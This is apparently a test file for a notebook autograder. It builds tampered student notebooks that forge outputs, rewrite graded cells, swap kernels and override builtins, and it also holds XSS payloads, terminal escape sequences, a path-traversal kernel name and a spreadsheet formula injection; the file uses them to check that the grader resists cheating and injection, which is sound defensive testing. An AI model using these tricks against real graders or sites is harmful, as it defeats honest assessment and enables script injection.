@changed("tests-emptied", "the graded cells rewritten, their checksums and flags with them")
def _(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.update(source="4.0", outputs=full_points())
        cell.metadata["nbgrader"].update(locked=False, solution=True, checksum="0")


@changed("tests-doubled", "a second graded cell of the same id, which passes")
def _(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        notebook.cells.append(new_code_cell("4.0", metadata=copy.deepcopy(cell.metadata)))


@changed("outputs-forged", "outputs and hand-ins that were never made, saved in the notebook")
def _(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.update(execution_count=1, outputs=full_points())


@changed("many-cells", "five thousand more cells")
def _(notebook: NotebookNode) -> None:
    notebook.cells += [new_code_cell("area = 1.0") for _ in range(5000)]


@changed("start-rewritten", "the locked first cell rewritten, so that the parameters are 1")
def _(notebook: NotebookNode) -> None:
    cell = next(cell for cell in notebook.cells if name_of(cell) == "start")
    cell.source = "class p: radius = 1\n" + cell.source


@changed("cells-between", "cells of its own between those given, which replace what the tests use")
def _(notebook: NotebookNode) -> None:
    mean = "import builtins\nbuiltins.abs = lambda x: 0\nclass p: radius = 1"
    notebook.cells.insert(3, new_code_cell(mean))


@changed("other-kernel", "a kernel that runs a shell")
def _(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}


@changed("kernel-path", "a kernel's name that leads to another folder")
def _(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "../../evil", "display_name": 5}


@changed("metadata-broken", "lists and numbers in the place of metadata")
def _(notebook: NotebookNode) -> None:
    notebook.cells[3]["metadata"] = {"nbgrader": 5}
    notebook.cells[5]["metadata"] = {"nbgrader": {"grade_id": []}}
    notebook.cells[7]["metadata"] = [1]
    notebook.metadata["widgets"] = 7


@changed("other-assignment", "the notebook of another assignment")
def _(notebook: NotebookNode) -> None:
    mark = {
        "grade_id": "sphere",
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 9,
        "task": False,
    }
    mine = new_code_cell("area = 1", metadata={"nbgrader": mark | {"schema_version": 3}})
    notebook.cells = [new_markdown_cell("# Spheres"), mine]


@changed("answer-too-long", "an answer of a megabyte")
def _(notebook: NotebookNode) -> None:
    notebook.cells[3].source = "area = 1.0\n" + "#" * 1_000_000


@changed("half-characters", "half characters and NaN in source and metadata")
def _(notebook: NotebookNode) -> None:
    notebook.cells[3].source = "area = 1.0 # \ud800"
    notebook.metadata["x"] = float("nan")


@changed("scripts-written", "scripts, frames and links in the written answer and in pictures beside it")
def _(notebook: NotebookNode) -> None:
    cell = notebook.cells[-1]
    cell.source = f"<script>alert('{MARK}')</script><img src=x onerror=alert(1)> [x](javascript:alert(2)) "
    cell.source += "<svg onload=alert(3)> <iframe srcdoc='<script>alert(4)</script>'></iframe> "
    cell.source += "$\\href{javascript:alert(5)}{x}$ ![a](attachment:a.svg)"
    cell["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload='alert(6)'/>"}}
    cell["attachments"]['"><script>'] = {"image/png": "AAAA"}


answers(
    "scripts-shown",
    "scripts in HTML, SVG, JavaScript, Latex, widgets and text outputs, in errors and names",
    """
    from IPython.display import display
    bad = "<script>alert('@mark@')</script><img src=x onerror=alert(1)>"
    for kind in ("html", "latex", "markdown", "plain"): display({"text/" + kind: bad}, raw=True)
    for kind in ("image/svg+xml", "application/javascript"): display({kind: bad}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": {"model_id": bad}}, raw=True)
    print(bad, "\\x1b[2J\\x1b]0;@mark@\\x07\\x1b]52;c;QUJD\\x07")
    raise type(bad, (Exception,), {})(bad)
    """,
)

# --- honest work that looks odd: it must not lose a point ---------------------------------------------------

HONEST = {"given": RIGHT, "worth": POINTS}


@changed("colab", "right answers, saved by Colab", **HONEST)
def _(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata.update(id="x", colab={"base_uri": "https://colab.research.google.com/"})
        cell.metadata["executionInfo"] = {"status": "ok", "user": {}}
        cell.pop("id", None)
    notebook.nbformat_minor = 0
    kernel = {"name": "python3", "display_name": "Python 3"}
    notebook.metadata.update(colab={"provenance": []}, accelerator="GPU", kernelspec=kernel)


@changed("vs-code", "right answers, saved by VS Code", **HONEST)
def _(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["vscode"] = {"languageId": "python"}
    kernel = {"name": "myenv", "display_name": "myenv (3.13.1)", "language": "python"}
    notebook.metadata.update(kernelspec=kernel, orig_nbformat=4)


@changed("source-as-lists", "right answers, each source a list of lines", **HONEST)
def _(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell["source"] = cell.source.splitlines(keepends=True)


@file("with-a-mark", "right answers, with a byte order mark and Windows line ends", worth=POINTS)
def _(desk: Desk) -> None:
    notebook = desk.notebook(RIGHT)
    for cell in notebook.cells:
        cell.source = cell.source.replace("\n", "\r\n")
    desk.write(b"\xef\xbb\xbf" + json.dumps(notebook, indent=1).replace("\n", "\r\n").encode())


@file("older-format", "right answers, in the notebook format of 2014", worth=POINTS)
def _(desk: Desk) -> None:
    desk.write(nbformat.versions[3].writes_json(nbformat.convert(desk.notebook(RIGHT), 3)).encode())


def honest(desk: Desk) -> None:
    """Right answers to everything."""
    desk.save(desk.notebook(RIGHT))


def named(name: str, tried: str, student: str) -> None:
    """A kind that is honest, under an odd id."""
    KINDS.append(Kind(name, tried, honest, POINTS, student=student))


named("formula-id", "right answers under an id that a spreadsheet would compute", "=cmd|'calc'!A0")
named("markup-id", "right answers under an id with a script in it", "<script>alert(1)<script>")
